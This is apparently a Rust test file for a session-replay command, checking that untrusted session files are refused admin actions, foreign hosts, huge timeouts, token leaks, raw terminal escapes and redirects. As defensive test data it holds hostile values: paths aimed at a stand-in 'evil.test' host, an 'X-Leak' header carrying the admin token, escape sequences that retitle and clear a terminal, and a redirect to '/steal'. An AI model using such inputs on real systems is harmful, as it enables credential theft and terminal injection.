//! Session files are input from elsewhere (a bug report, a pasted reproduction): `relaydeck
//! replay` must not let one act as admin on a server without being told, reach another host,
//! run without bound, or write to the terminal anything but text.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::process::Output;

use common::TestServer;
use relaydeck::server::persist::read_audit;
use relaydeck::session::replay::{self, Outcome, Target};
use relaydeck::session::Session;

const KICK: &str = "sessions/pubsub/4020_admin_disconnect.jsonl";

async fn replay_cli(args: Vec<String>, envs: Vec<(&'static str, String)>) -> Output {
    tokio::task::spawn_blocking(move || {
        std::process::Command::new(env!("CARGO_BIN_EXE_relaydeck"))
            .arg("replay")
            .args(args)
            .env_remove("RELAYDECK_ADMIN_TOKEN")
            .envs(envs)
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .output()
            .unwrap()
    })
    .await
    .unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admin_steps_against_a_url_need_allow_admin_even_with_the_token_in_the_environment() {
    let server = TestServer::demo().await;
    let url = format!("ws://{}", server.addr);

    let refused = replay_cli(
        vec!["--url".into(), url.clone(), KICK.into()],
        vec![("RELAYDECK_ADMIN_TOKEN", server.token.clone())],
    )
    .await;
    let text = stdout(&refused);
    assert_eq!(refused.status.code(), Some(1), "{text}");
    assert!(
        text.contains("refused: this session has admin steps") && text.contains("--allow-admin"),
        "{text}"
    );
    assert!(
        read_audit(server.data.path()).unwrap().is_empty(),
        "no admin command reached the server"
    );

    let allowed = replay_cli(
        vec![
            "--url".into(),
            url.clone(),
            "--allow-admin".into(),
            KICK.into(),
        ],
        vec![("RELAYDECK_ADMIN_TOKEN", server.token.clone())],
    )
    .await;
    let text = stdout(&allowed);
    assert_eq!(allowed.status.code(), Some(0), "{text}");
    assert!(text.contains("admin steps may act on"), "said so: {text}");
    assert!(read_audit(server.data.path())
        .unwrap()
        .iter()
        .any(|r| r.action == "kick"));

    let no_token = replay_cli(
        vec!["--url".into(), url, "--allow-admin".into(), KICK.into()],
        vec![],
    )
    .await;
    assert_ne!(no_token.status.code(), Some(0));
    assert!(
        String::from_utf8_lossy(&no_token.stderr)
            .contains("--allow-admin needs the server's admin token"),
        "{}",
        String::from_utf8_lossy(&no_token.stderr)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_embedded_server_runs_admin_steps_without_the_flag() {
    let output = replay_cli(vec![KICK.into()], vec![]).await;
    assert_eq!(output.status.code(), Some(0), "{}", stdout(&output));
}

/// A value captured from the server is substituted after the file was checked; the limits
/// are checked again, so a server cannot steer a step to another host either.
#[tokio::test]
async fn substituted_values_are_checked_like_the_file() {
    let server = TestServer::demo().await;
    let session = Session::parse(
        r#"{"session":1,"name":"steer","dialect":"pubsub"}
{"step":"connect","conn":"a","path":"/v1?key=pk_demo"}
{"step":"expect","conn":"a","match":{"type":"welcome"},"capture":{"me":"/peerId"}}
{"step":"http","method":"GET","path":"${me}@evil.test/"}"#,
        "inline",
    )
    .unwrap();
    let target = Target {
        addr: server.addr.to_string(),
        admin_token: None,
    };
    let report = replay::run(&session, &target, &mut |_| {}).await;
    let Outcome::Failed(message) = &report.steps[2].outcome else {
        panic!("{:?}", report.steps[2].outcome)
    };
    assert!(
        message.contains("must be a path on the server"),
        "{message}"
    );
}

/// The admin token reaches a Flow stream's `Authorization` header and nothing else: not the
/// admin endpoint, not a path (which the recorder keeps), and a session asking for it counts
/// as one with admin steps.
#[tokio::test]
async fn the_admin_token_goes_only_to_a_flow_streams_credential() {
    let server = TestServer::demo().await;
    let target = Target {
        addr: server.addr.to_string(),
        admin_token: Some(server.token.clone()),
    };
    let header = r#""headers":{"Authorization":"Bearer ${admin_token}"}"#;
    let run_one = |connect: String| {
        let target = target.clone();
        async move {
            let text =
                format!("{{\"session\":1,\"name\":\"token\",\"dialect\":\"flow\"}}\n{connect}");
            let session = Session::parse(&text, "inline").unwrap();
            assert!(session.has_admin_steps(), "{text}");
            replay::run(&session, &target, &mut |_| {}).await
        }
    };
    let flow = run_one(format!(
        r#"{{"step":"connect","conn":"a","path":"/v1/ws",{header}}}"#
    ))
    .await;
    assert!(flow.passed(), "{flow:#?}");
    let admin = run_one(format!(
        r#"{{"step":"connect","conn":"a","path":"/admin",{header}}}"#
    ))
    .await;
    let Outcome::Failed(message) = &admin.steps[0].outcome else {
        panic!("{:?}", admin.steps[0].outcome)
    };
    assert!(message.contains("only a Flow stream"), "{message}");
    let in_path = run_one(
        r#"{"step":"connect","conn":"a","path":"/v1?key=pk_demo&x=${admin_token}","headers":{"Authorization":"Bearer ${admin_token}"}}"#.to_owned(),
    )
    .await;
    assert!(!in_path.passed(), "{in_path:#?}");
    let in_other_header = Session::parse(
        r#"{"session":1,"name":"token","dialect":"flow"}
{"step":"connect","conn":"a","path":"/v1/ws","headers":{"Authorization":"Bearer sk_demo","X-Leak":"${admin_token}"}}"#,
        "inline",
    )
    .unwrap();
    let report = replay::run(&in_other_header, &target, &mut |_| {}).await;
    let Outcome::Failed(message) = &report.steps[0].outcome else {
        panic!("{:?}", report.steps[0].outcome)
    };
    assert!(message.contains("admin_token"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn huge_timeouts_and_foreign_hosts_are_refused_before_anything_runs() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        path.display().to_string()
    };
    let header = r#"{"session":1,"name":"x","dialect":"pubsub"}"#;
    let slow = write(
        "slow.jsonl",
        &format!(
            "{header}\n{{\"step\":\"connect\",\"conn\":\"a\",\"path\":\"/v1?key=pk_demo\"}}\n{{\"step\":\"expect\",\"conn\":\"a\",\"code\":\"x\",\"timeout_ms\":{}}}\n",
            u64::MAX
        ),
    );
    let elsewhere = write(
        "elsewhere.jsonl",
        &format!(
            "{header}\n{{\"step\":\"http\",\"method\":\"GET\",\"path\":\"@evil.test/steal\"}}\n"
        ),
    );
    let started = std::time::Instant::now();
    let output = replay_cli(vec![slow, elsewhere], vec![]).await;
    let text = stdout(&output);
    assert_eq!(output.status.code(), Some(1), "{text}");
    assert!(text.contains("timeout_ms is limited to 60000 ms"), "{text}");
    assert!(text.contains("must be a path on the server"), "{text}");
    assert!(text.contains("0 of 2 sessions passed"), "{text}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(30),
        "refused at once, not after waiting"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn escape_sequences_in_a_session_are_shown_not_obeyed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("title.jsonl");
    // The name sets the terminal's title and clears the screen if printed raw; the text sent
    // comes back inside the description of the step.
    std::fs::write(
        &path,
        r#"{"session":1,"name":"x\u001b]0;pwned\u0007\u001b[2J","dialect":"pubsub"}
{"step":"connect","conn":"a","path":"/v1?key=pk_demo"}
{"step":"send","conn":"a","text":"\u001b[31mred\u202e"}
"#,
    )
    .unwrap();
    let output = replay_cli(
        vec![path.display().to_string()],
        // Colour forced on, so that nothing downstream strips escapes for us.
        vec![("CLICOLOR_FORCE", "1".to_owned())],
    )
    .await;
    let text = stdout(&output);
    assert_eq!(output.status.code(), Some(0), "{text}");
    assert!(text.contains("\\u{1b}]0;pwned\\u{7}\\u{1b}[2J"), "{text}");
    assert!(text.contains("\\u{202e}"), "{text}");
    assert!(!text.contains("\u{1b}]0;") && !text.contains("\u{1b}[2J"));
    assert!(!text.contains('\u{202e}') && !text.contains('\u{7}'));
    assert!(
        text.contains('\u{1b}'),
        "the report's own colours are still there: the check above is not vacuous"
    );
}

/// Issue 19: a target answering 307 does not get the step's headers and body sent on to the
/// host it names; the 307 is the step's answer.
#[tokio::test]
async fn http_steps_never_follow_a_redirect() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let target = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let elsewhere = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let elsewhere_addr = elsewhere.local_addr().unwrap();
    let addr = target.local_addr().unwrap();
    tokio::spawn(async move {
        let (mut socket, _) = target.accept().await.unwrap();
        let mut request = vec![0u8; 4096];
        let _ = socket.read(&mut request).await;
        let answer = format!(
            "HTTP/1.1 307 Temporary Redirect\r\nLocation: http://{elsewhere_addr}/steal\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        );
        let _ = socket.write_all(answer.as_bytes()).await;
    });
    let session = Session::parse(
        r#"{"session":1,"name":"redirect","dialect":"talo"}
{"step":"http","method":"POST","path":"/v1/players/auth/login","headers":{"x-talo-session":"secret-session"},"body":{"password":"hunter2"},"expect_status":200}"#,
        "inline",
    )
    .unwrap();
    let report = replay::run(
        &session,
        &Target {
            addr: addr.to_string(),
            admin_token: None,
        },
        &mut |_| {},
    )
    .await;
    let outcome = format!("{:?}", report.steps[0].outcome);
    assert!(outcome.contains("HTTP 307"), "{outcome}");
    // The step ran to its end, so a request the client had sent on would already be waiting
    // in the other listener's queue. the other host: its accept has nothing waiting.
    let reached =
        tokio::time::timeout(std::time::Duration::from_millis(200), elsewhere.accept()).await;
    assert!(reached.is_err(), "the redirect's target was contacted");
}
